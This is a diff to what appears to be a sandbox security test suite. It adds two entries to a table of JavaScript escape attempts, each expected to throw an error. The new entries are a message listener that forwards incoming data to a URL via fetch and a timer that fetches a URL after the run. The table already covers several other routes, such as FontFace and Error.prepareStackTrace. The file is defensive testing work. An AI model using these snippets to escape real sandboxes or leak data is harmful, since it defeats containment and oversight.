@@ -66,6 +66,8 @@ const ATTACKS: [string, string, RegExp][] = [
   ['FontFace', `new FontFace('x', 'url(${'URL'}/font)').load();`, /TypeError|ReferenceError/],
   ['fonts', `fonts.add(null);`, /TypeError|ReferenceError/],
   ['a receiver-less Web IDL call', `EventTarget.prototype.dispatchEvent.call(undefined, new Event('message'));`, /TypeError|ReferenceError/],
+  ['a message listener for later jobs', `addEventListener('message', (e) => globalThis.fetch('${'URL'}/' + e.data));`, /TypeError|ReferenceError/],
+  ['a timer that outlives the run', `setTimeout(() => globalThis.fetch('${'URL'}/later'), 0);`, /TypeError|ReferenceError/],
   ['sloppy this', `(function () { return this; })().fetch('${'URL'}/this');`, /TypeError/],
   ['arguments.callee', `(function () { return arguments.callee.caller; })();`, /TypeError/],
   ['Error.prepareStackTrace', `Error.prepareStackTrace = () => globalThis.fetch('${'URL'}/pst'); null.x;`, /TypeError/],
